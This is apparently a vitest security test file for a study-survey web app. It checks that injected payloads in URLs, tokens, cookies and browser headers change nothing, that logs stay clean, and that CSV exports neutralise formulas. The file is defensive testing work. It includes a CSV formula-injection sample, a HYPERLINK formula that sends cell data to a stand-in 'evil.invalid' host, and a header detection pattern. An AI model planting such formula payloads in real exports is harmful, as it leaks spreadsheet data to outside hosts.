/*
 * Every payload in every place of a request: parts of addresses, the query, the token of a link, cookies and what a
 * browser says of itself. The store stays as it is, no header comes of a text, and the log stays one JSON line an
 * event. Then the answers, as files: saved, submitted, exported, read back, the same.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { readAnswers } from '../../data/read-answers.ts';
import { readCsv } from '../../data/read-csv.ts';
import { writeCsv } from '../../data/write-csv.ts';
import type { AnswerRow } from '../../instruments/schema/answer.ts';
import { SubmissionReply } from '../../server/http/replies.ts';
import { ROUTES } from '../../server/routes/list-routes.ts';
import { beginsLikeFormula } from '../support/begins-like-formula.ts';
import { callBaseline } from '../support/call-baseline.ts';
import { ALDERFORD, STUDY } from '../support/cast.ts';
import { dumpStore } from '../support/dump-store.ts';
import { PAYLOADS } from '../support/payloads.ts';
import { type App, READING_ROOMS, startApp } from '../support/start-app.ts';
import { COMPLETE, readSubmission, submitAlderford } from '../support/take-country.ts';

let app: App;
beforeAll(async () => {
	app = await startApp({ proxies: 1 });
});
afterAll(() => app.stop());

const ENCODED = PAYLOADS.map((payload) => encodeURIComponent(payload));
/** Headers that an answer may have; one of a payload's making would not be among them. */
const isForeign = (name: string) => /evil|x-forged/i.test(name);

interface Got {
	readonly status: number;
	readonly headers: Readonly<Record<string, unknown>>;
}

/** Over node:http, which sends an address as it is written. */
function ask(path: string, headers: Record<string, string>): Promise<Got> {
	return new Promise((resolve, reject) => {
		const call = request(`${app.address}/`, { path, headers }, (reply) => {
			reply.resume();
			reply.on('end', () => resolve({ status: reply.statusCode ?? 0, headers: reply.headers }));
		});
		call.on('error', reject);
		call.end();
	});
}

/** Every address of a GET with a payload in one of its parts, the others as they should be. */
function addressesWith(encoded: string): string[] {
	const names: Readonly<Record<string, string>> = { study: STUDY, country: ALDERFORD };
	return ROUTES.filter((route) => route.method === 'get' && route.path.includes(':')).flatMap((route) =>
		[...route.path.matchAll(/:(\w+)/g)].map(([, hostile = '']) =>
			route.path.replace(/:(\w+)/g, (_, name: string) =>
				name === hostile ? encoded : (names[name] ?? 'none'),
			),
		),
	);
}

test('a payload in an address or query changes nothing in the store and makes no header', async () => {
	const before = await dumpStore(app.context.db);
	// In turn: one person alone would ask for reports and scores too often.
	const people = await Promise.all(
		(['Ana', 'Luis', 'Tomas', 'Rosa', 'Felix'] as const).map((name) => app.as(name)),
	);
	const signedIn = await dumpStore(app.context.db);
	expect(Object.keys(signedIn)).toEqual(Object.keys(before));
	for (const [index, encoded] of ENCODED.entries()) {
		const { cookie = '' } = people[index % people.length] ?? {};
		const pack = `/api/studies/${STUDY}/pack?language=${encoded}`;
		for (const path of [
			...addressesWith(encoded),
			pack,
			`/api/studies/${STUDY}?${encoded}=1&token=${encoded}`,
		]) {
			const { status, headers } = await ask(path, { cookie });
			expect([200, 400, 404], path).toContain(status);
			expect(Object.keys(headers).filter(isForeign), path).toEqual([]);
			expect(headers['set-cookie'], path).toBeUndefined();
		}
	}
	expect(await dumpStore(app.context.db)).toEqual(signedIn);
}, 60_000);

test('a payload as a token, a cookie or a name of a browser signs nobody in', async () => {
	for (const [index, payload] of PAYLOADS.entries()) {
		const reply = await app.anonymous.send('/api/session', {
			method: 'POST',
			body: JSON.stringify({ token: payload }),
			headers: { 'x-forwarded-for': `198.51.${index % 250}.1` },
		});
		expect([400, 404], payload).toContain(reply.status);
		expect(reply.headers.getSetCookie()).toEqual([]);
		const encoded = ENCODED[index] ?? '';
		const got = await ask('/api/session', {
			cookie: `session=${encoded}`,
			'user-agent': encoded,
			referer: encoded,
		});
		expect(got.status).toBe(200);
	}
});

test('the log is one JSON line an event, without a sign that moves a terminal', () => {
	expect(app.log.length).toBeGreaterThan(PAYLOADS.length);
	for (const line of app.log) {
		expect(line.endsWith('\n')).toBe(true);
		// What stands inside the line: nothing that ends it or turns it round, whatever reads it.
		expect(/[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u.test(line.slice(0, -1))).toBe(false);
		expect(JSON.parse(line)).toMatchObject({ level: expect.any(Number), time: expect.any(Number) });
	}
});

const sorted = (rows: readonly AnswerRow[]): AnswerRow[] =>
	[...rows].sort((a, b) => (a.question < b.question ? -1 : 1));

test('answers with many a payload are exported without a formula and come back word for word', async () => {
	const [first, ...others] = COMPLETE;
	const evidence = PAYLOADS.slice(0, 19).map((payload) => ({ title: payload }));
	const comment = `=1+1 ${PAYLOADS.filter((payload) => payload.length < 60).join(' ')}`.slice(0, 4900);
	const changes = [
		{ ...first, question: 'room_open', value: 'partly', evidence, comment },
		{ question: 'why_closed', value: '=HYPERLINK("https://evil.invalid/?"&A1,"open")', comment: "'=1+1" },
		...others,
	];
	await submitAlderford(app, changes);
	const { rows } = (await readSubmission(await app.as('Dara'))).as(SubmissionReply);
	const folder = mkdtempSync(join(tmpdir(), 'baseline-hostile-'));
	try {
		const args = ['export', '--study', STUDY, '--db', app.file, '--pack', READING_ROOMS, '--out', folder];
		expect((await callBaseline(args)).code).toBe(0);
		const text = readFileSync(join(folder, 'answers.csv'), 'utf8');
		const cells: string[] = parse(text).flat();
		expect(cells.filter(beginsLikeFormula)).toEqual([]);
		const pack = app.context.packs.get('reading-rooms');
		if (!pack) throw new RangeError('the test requires the reading rooms');
		expect(sorted(readAnswers(text, 'answers.csv', pack))).toEqual(sorted(rows));
		const raw = await callBaseline([...args, '--raw']);
		expect(raw.said).toContain('warning: written raw');
		const asTyped: string[] = parse(readFileSync(join(folder, 'answers.csv'), 'utf8')).flat();
		expect(asTyped.filter(beginsLikeFormula)).toHaveLength(2);
	} finally {
		rmSync(folder, { recursive: true, force: true });
	}
});

test('every payload in a table of our own comes back as it was', () => {
	const rows = PAYLOADS.map((payload) => ({
		country: 'ALD',
		respondent: 'national',
		question: 'room_open',
		value: 'yes',
		comment: payload,
	}));
	const columns = ['country', 'respondent', 'question', 'value', 'comment'];
	const text = writeCsv(columns, rows);
	const cells: string[] = parse(text).flat();
	expect(cells.filter(beginsLikeFormula)).toEqual([]);
	const back = readCsv(text, { file: 'a.csv', columns });
	expect(back.map((row) => row.cells.comment)).toEqual(PAYLOADS);
});
